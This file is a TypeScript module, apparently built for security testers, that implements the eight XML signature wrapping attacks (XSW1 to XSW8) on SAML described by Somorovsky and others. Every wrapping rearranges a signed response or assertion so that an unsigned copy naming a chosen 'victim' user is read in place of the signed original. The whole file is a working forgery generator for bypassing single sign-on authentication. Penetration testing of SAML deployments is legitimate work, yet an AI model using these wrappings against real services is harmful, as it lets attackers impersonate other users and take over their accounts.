/**
 * The eight signature wrappings of Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security
 * 2012), as tools for testers number them: what was signed stays somewhere, and a copy that names somebody else stands
 * where a careless reader looks.
 */
import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom'

const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#'

interface Parts {
  readonly document: Document
  readonly response: Element
  readonly assertion: Element
  readonly signature: Element
}

/** Lays hands on a signed message: `changeSubject` says somebody else's name into an element. */
type Wrapping = (parts: Parts, changeSubject: (element: Element) => void) => void

/** 1 and 2 are made from a signed response, the others from a signed assertion. */
export const wrappings: readonly {
  readonly name: string
  readonly signed: 'response' | 'assertion'
  readonly wrap: Wrapping
}[] = [
  {
    name: 'XSW1: the signed response inside of the signature of another one',
    signed: 'response',
    wrap({ response, signature }, change) {
      const original = withoutSignature(response)
      signature.appendChild(original)
      response.setAttribute('ID', '_evil')
      change(child(response, 'Assertion'))
    },
  },
  {
    name: 'XSW2: the signed response beside the signature, in another one',
    signed: 'response',
    wrap({ response, signature }, change) {
      const original = withoutSignature(response)
      response.insertBefore(original, signature)
      response.setAttribute('ID', '_evil')
      change(child(response, 'Assertion', 'last'))
    },
  },
  {
    name: 'XSW3: another assertion before the signed one',
    signed: 'assertion',
    wrap({ response, assertion }, change) {
      response.insertBefore(evil(assertion, change), assertion)
    },
  },
  {
    name: 'XSW4: the signed assertion inside of another one',
    signed: 'assertion',
    wrap({ response, assertion }, change) {
      const other = evil(assertion, change)
      response.replaceChild(other, assertion)
      other.appendChild(assertion)
    },
  },
  {
    name: 'XSW5: the signature in another assertion, what it covers at the end',
    signed: 'assertion',
    wrap({ response, assertion }, change) {
      response.appendChild(withoutSignature(assertion))
      assertion.setAttribute('ID', '_evil')
      change(assertion)
    },
  },
  {
    name: 'XSW6: what is covered inside of the signature of another assertion',
    signed: 'assertion',
    wrap({ assertion, signature }, change) {
      signature.appendChild(withoutSignature(assertion))
      assertion.setAttribute('ID', '_evil')
      change(assertion)
    },
  },
  {
    name: 'XSW7: another assertion in an extension',
    signed: 'assertion',
    wrap({ document, response, assertion }, change) {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
      response.insertBefore(extensions, assertion)
      const other = withoutSignature(assertion)
      change(other)
      extensions.appendChild(other)
    },
  },
  {
    name: 'XSW8: what is covered in an object of the signature of another assertion',
    signed: 'assertion',
    wrap({ document, assertion, signature }, change) {
      const object = document.createElementNS(SIGNATURE, 'ds:Object')
      object.appendChild(withoutSignature(assertion))
      signature.appendChild(object)
      change(assertion)
    },
  },
]

/** The message with the wrapping applied, naming `victim` wherever it is not what was signed. */
export function wrapped(xml: string, wrap: Wrapping, names: { readonly own: string; readonly victim: string }): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const response = document.documentElement as Element
  const assertion = child(response, 'Assertion')
  const signature = response.getElementsByTagNameNS(SIGNATURE, 'Signature')[0] as Element
  wrap({ document, response, assertion, signature }, (element) => {
    for (const nameId of [...element.getElementsByTagName('saml:NameID')])
      if (nameId.textContent === names.own && isOwn(nameId, element)) nameId.textContent = names.victim
  })
  return new XMLSerializer().serializeToString(document)
}

/** The subject of this assertion, and not of one that lies inside of it. */
function isOwn(nameId: Element, assertion: Element): boolean {
  return nameId.parentNode?.parentNode === assertion
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element
  const signature = copy.getElementsByTagNameNS(SIGNATURE, 'Signature')[0]
  if (signature) signature.parentNode?.removeChild(signature)
  return copy
}

function evil(assertion: Element, change: (element: Element) => void): Element {
  const other = withoutSignature(assertion)
  other.setAttribute('ID', '_evil')
  change(other)
  return other
}

function child(element: Element, name: string, which: 'first' | 'last' = 'first'): Element {
  const found = [...element.childNodes].filter((node) => (node as Element).localName === name) as Element[]
  const one = which === 'first' ? found[0] : found.at(-1)
  if (one === undefined) throw new Error(`no ${name}`)
  return one
}
